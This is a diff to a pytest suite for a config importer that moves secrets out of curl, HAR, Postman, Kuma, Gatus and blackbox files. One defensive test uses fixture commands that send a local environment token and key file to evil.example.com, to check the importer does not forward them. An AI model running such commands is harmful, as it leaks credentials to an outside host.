@@ -2,10 +2,12 @@
 
 import base64
 import json
+import re
 import stat
 import subprocess
 import time
 from pathlib import Path
+from random import Random
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
@@ -266,7 +268,8 @@ def test_the_targets_of_each_format_are_let_in(binary, api, tmp_path, running, n
     make, arguments, states, not_carried = CASES[name]
     write(tmp_path, make(api))
     environment = {"PARTNER_KEY": KEY, "SHOP_TOKEN": BEARER}
-    result = run_import(binary, tmp_path, *arguments, "--output", "imported.toml", "--secrets-dir", "keys", "--interval", "200ms")
+    result = run_import(binary, tmp_path, *arguments, "--output", "imported.toml", "--secrets-dir", "keys", "--interval", "200ms",
+                        "--with-references")
     assert result.returncode == 0, result.stderr
     for line in not_carried:
         assert line.format(api=api) in result.stderr, result.stderr
@@ -332,12 +335,12 @@ def test_a_file_of_file_sd_becomes_a_list_of_targets(binary, api, tmp_path, runn
 
 def test_without_an_output_nothing_is_written(binary, api, tmp_path):
     write(tmp_path, curl(api))
-    result = run_import(binary, tmp_path, "-", text=(tmp_path / "calls.sh").read_text())
+    result = run_import(binary, tmp_path, "-", "--with-references", text=(tmp_path / "calls.sh").read_text())
     assert result.returncode == 0 and "nothing is written (--output FILE)" in result.stderr, result.stderr
     assert 'token = { file = "secrets/' in result.stdout and 'secret_headers.X-Api-Key = { env = "PARTNER_KEY" }' in result.stdout
     assert [path.name for path in tmp_path.iterdir()] == ["calls.sh"]
     assert not [secret for secret in SECRETS if secret in result.stdout + result.stderr]
-    strict = run_import(binary, tmp_path, "calls.sh", "--strict")
+    strict = run_import(binary, tmp_path, "calls.sh", "--strict", "--with-references")
     assert strict.returncode == 1 and strict.stdout == result.stdout
 
 
@@ -390,7 +393,7 @@ def test_one_secret_is_one_credential_for_its_hosts(binary, tmp_path):
     ("curl -E client.pem:sesame --key client.key https://api.example.com/x", {"secrets": ["sesame"], "has": ['kind = "client_certificate"', "/client.pem"]}),
 ])
 def test_each_place_of_a_secret_has_its_credential(binary, tmp_path, command, kind):
-    result = run_import(binary, tmp_path, "-", "--output", "imported.toml", "--with-writes", text=command)
+    result = run_import(binary, tmp_path, "-", "--output", "imported.toml", "--with-writes", "--with-references", text=command)
     if not kind["has"]:
         assert result.returncode == 1 and "--set-is-used is not known here" in result.stderr
         return
@@ -400,6 +403,156 @@ def test_each_place_of_a_secret_has_its_credential(binary, tmp_path, command, ki
     for text in kind["has"]:
         assert text in written
     assert "sesame" not in written + result.stderr and "a8Kd93" not in written + result.stderr
+
+
+def test_nothing_refers_to_our_files_and_variables_unasked(binary, tmp_path):
+    """A file of somebody else must not make us send ours to a host of theirs."""
+    (tmp_path / "mine.pem").write_text("the key of this machine")
+    sources = {
+        "calls.sh": f"curl -H \"X-Api-Key: $MY_TOKEN\" https://evil.example.com/a\ncurl -E {tmp_path}/mine.pem https://evil.example.com/b\n",
+        "blackbox.yml": json.dumps({"modules": {"http": {"prober": "http", "http": {"bearer_token_file": f"{tmp_path}/mine.pem"}}}}),
+        "config.yaml": 'endpoints: [{name: x, url: "https://evil.example.com/", headers: {X-Api-Key: "${MY_TOKEN}"}, conditions: ["[STATUS] == 200"]}]\n'}
+    write(tmp_path, {**sources, "jobs.json": json.dumps([{"targets": ["https://evil.example.com/"]}])})
+    for name in sources:
+        more = ["jobs.json", "--set", "module=http"] if name == "blackbox.yml" else []
+        result = run_import(binary, tmp_path, name, *more, MY_TOKEN="the-token-of-this-machine")
+        assert result.returncode == 0 and " env = " not in result.stdout and "mine.pem" not in result.stdout, result.stdout
+        told = re.findall(r"to be written by you: (.*) \(--with-references refers to it instead\)", result.stderr)
+        expected = {"calls.sh": {"the value of the variable MY_TOKEN", f"the content of {tmp_path}/mine.pem"},
+                    "blackbox.yml": {f"the content of {tmp_path}/mine.pem"}, "config.yaml": {"the value of the variable MY_TOKEN"}}
+        assert set(told) == expected[name], result.stderr
+        asked = run_import(binary, tmp_path, name, *more, "--with-references")
+        assert 'env = "MY_TOKEN"' in asked.stdout or "mine.pem" in asked.stdout
+        assert "of this machine" not in result.stdout + asked.stdout
+
+
+HEADERS = ["DPoP", "X-Auth", "X-Auth-Key", "X-CSRFToken", "X-Csrf-Token", "X-XSRF-TOKEN", "X-Session", "X-Session-Id", "Cookie", "Cookie2",
+           "X-Api-Key", "Private-Token", "X-Amz-Security-Token"]
+FIELDS = ["code", "state", "otp", "assertion", "client_assertion", "password", "user_password", "passphrase", "SAMLResponse", "access_token",
+          "id_token", "client_secret", "api_key", "sig"]
+
+
+def secret_of(random: Random) -> str:
+    """Short, and of letters and digits: nothing but the name of its place tells that it is one."""
+    return "s" + "".join(random.choices("abcdefghjkmnpqrstuvwxyz23456789", k=8)) + "7z"
+
+
+class Request:
+    """One request with a secret in one place."""
+
+    def __init__(self, number: int, random: Random, place: str, name: str):
+        self.secret, self.body, self.headers, query = secret_of(random), "", {}, ""
+        if place == "header":
+            value = f"a={self.secret}; b=1" if name.startswith("Cookie") else self.secret
+            self.headers[name] = value
+        elif place == "query":
+            query = f"?a=1&{name}={self.secret}"
+        elif place == "referer":
+            self.headers["Referer"] = f"https://r.example.com/?x=1&{name}={self.secret}"
+        elif place == "form":
+            self.body, self.headers = f"a=1&{name}={self.secret}", {"X-Api-Key": "sbeside77", "Content-Type": "application/x-www-form-urlencoded"}
+        elif place == "json":
+            self.body, self.headers = json.dumps({"a": {name: self.secret, "b": 1}}), {"X-Api-Key": "sbeside77", "Content-Type": "application/json"}
+        self.user = f"joe:{self.secret}@" if place == "user" else ""
+        self.url = f"https://{self.user}h{number}.example.com/x{query}"
+        self.method = "POST" if self.body else "GET"
+
+
+def requests_with_secrets(random: Random) -> list[Request]:
+    places = ([("header", name) for name in HEADERS] + [("user", "")]
+              + [(place, name) for place in ("query", "referer", "form", "json") for name in FIELDS])
+    return [Request(number, random, *place) for number, place in enumerate(places)]
+
+
+def as_curl(requests: list[Request]) -> tuple[str, str]:
+    return "all.sh", "".join("curl " + " ".join([f"-X {one.method}", *(f"-H '{name}: {value}'" for name, value in one.headers.items()),
+                                                 *([f"-d '{one.body}'"] if one.body else []), f"'{one.url}'"]) + "\n" for one in requests)
+
+
+def as_har(requests: list[Request]) -> tuple[str, str]:
+    return "all.har", json.dumps({"log": {"entries": [{"request": {
+        "method": one.method, "url": one.url, "headers": [{"name": name, "value": value} for name, value in one.headers.items()],
+        **({"postData": {"mimeType": one.headers["Content-Type"], "text": one.body}} if one.body else {})},
+        "response": {"status": 200, "content": {}}} for one in requests]}})
+
+
+def as_postman(requests: list[Request]) -> tuple[str, str]:
+    return "all.json", json.dumps({
+        "info": {"name": "X", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
+        "item": [{"name": f"r{number}", "request": {
+            "method": one.method, "url": one.url, "header": [{"key": name, "value": value} for name, value in one.headers.items()],
+            **({"body": {"mode": "raw", "raw": one.body}} if one.body else {})}} for number, one in enumerate(requests)]})
+
+
+def as_kuma(requests: list[Request]) -> tuple[str, str]:
+    return "all.json", json.dumps({"monitorList": [{
+        "id": number, "name": f"r{number}", "type": "http", "active": True, "interval": 20, "maxredirects": 0, "accepted_statuscodes": ["200"],
+        "method": one.method, "url": one.url, "headers": json.dumps(one.headers), "body": one.body or None} for number, one in enumerate(requests)]})
+
+
+def as_gatus(requests: list[Request]) -> tuple[str, str]:
+    return "all.yaml", json.dumps({"endpoints": [{
+        "name": f"r{number}", "url": one.url, "method": one.method, "headers": one.headers, "body": one.body, "conditions": ["[STATUS] == 200"],
+        "extra-labels": {"token": one.secret}} for number, one in enumerate(requests)]})
+
+
+def as_blackbox(requests: list[Request]) -> tuple[str, str]:
+    """With a configuration of Prometheus in the same test."""
+    return "all.yml", json.dumps({"modules": {f"m{number}": {"prober": "http", "http": {
+        "method": one.method, "headers": one.headers, **({"body": one.body} if one.body else {})}} for number, one in enumerate(requests)}})
+
+
+def as_openapi(requests: list[Request]) -> tuple[str, str]:
+    """Its texts are from documentation; secrets stand in the URL of a server at most."""
+    return "all.json", json.dumps({"openapi": "3.0.0", "info": {"title": "x", "version": "1"}, "paths": {
+        f"/p{number}": {"servers": [{"url": one.url.partition("?")[0]}], "get": {"operationId": f"r{number}", "responses": {"200": {"description": "x"}}}}
+        for number, one in enumerate(requests) if one.user}})
+
+
+@pytest.mark.parametrize("seed", range(2))
+@pytest.mark.parametrize("write_as", [as_curl, as_har, as_postman, as_kuma, as_gatus, as_blackbox, as_openapi])
+def test_a_secret_is_nowhere_but_in_its_own_file(binary, tmp_path, write_as, seed):
+    """Each place of a request whose name is known to carry one."""
+    requests = requests_with_secrets(Random(seed))
+    name, text = write_as(requests)
+    sources = {name: text}
+    if write_as is as_blackbox:
+        sources["prometheus.json"] = json.dumps({"scrape_configs": [
+            {"job_name": f"r{number}", "metrics_path": "/probe", "params": {"module": [f"m{number}"]},
+             "static_configs": [{"targets": [one.url], "labels": {"api_key": one.secret}}]} for number, one in enumerate(requests)]})
+    write(tmp_path, sources)
+    result = run_import(binary, tmp_path, *sources, "--with-writes", "--output", "imported.toml", "--secrets-dir", "keys")
+    written = (tmp_path / "imported.toml").read_text() if result.returncode == 0 else ""
+    shown = written + result.stdout + result.stderr
+    shown += subprocess.run([binary, "check", "imported.toml"], cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False).stdout
+    assert not [one.secret for one in requests if one.secret in shown], result.stderr
+    if write_as is as_openapi:
+        return
+    kept = "\n".join(secret_files(tmp_path / "keys").values())
+    lost = [(one.url, one.headers, one.body) for one in requests if one.secret not in kept
+            and not (write_as is as_har and "Referer" in one.headers)]   # a browser makes it, and it is not carried
+    assert not lost, result.stderr
+    assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in (tmp_path / "keys").iterdir())
+
+
+def test_a_secret_in_an_option_of_curl_is_nowhere_but_in_its_own_file(binary, tmp_path):
+    (tmp_path / "all.sh").write_text("""curl -u stoken1z https://a.example.com/
+curl -u :stoken2z https://b.example.com/
+curl --oauth2-bearer stoken3z https://c.example.com/
+curl -E c.pem:stoken4z https://d.example.com/
+curl --pass stoken5z -E c.pem https://e.example.com/
+curl -b 'a=stoken6z' https://f.example.com/
+curl -U joe:xtoken1z -x http://proxy:1 https://g.example.com/
+curl -x 'http://joe:xtoken2z@proxy:1' https://g.example.com/
+curl -x 'http://proxy:1/?token=xtoken3z' https://g.example.com/
+curl -H 'X-Api-Key: sbeside7' -d '{"pin": 1234567}' https://h.example.com/
+""")
+    result = run_import(binary, tmp_path, "all.sh", "--output", "imported.toml", "--with-writes")
+    shown = (tmp_path / "imported.toml").read_text() + result.stdout + result.stderr
+    assert "token1z" not in shown and not re.findall(r"[sx]token\dz|1234567|sbeside7", shown)
+    kept = "\n".join(secret_files(tmp_path / "secrets").values())
+    assert set(re.findall(r"[sx]token\dz", kept)) == {f"stoken{number}z" for number in range(1, 7)}
+    assert result.stderr.count("its proxy has a password") == 3 and "its body has a secret that is a number" in result.stderr
 
 
 def test_a_secret_of_a_postman_environment_is_one_whatever_its_name(binary, tmp_path):
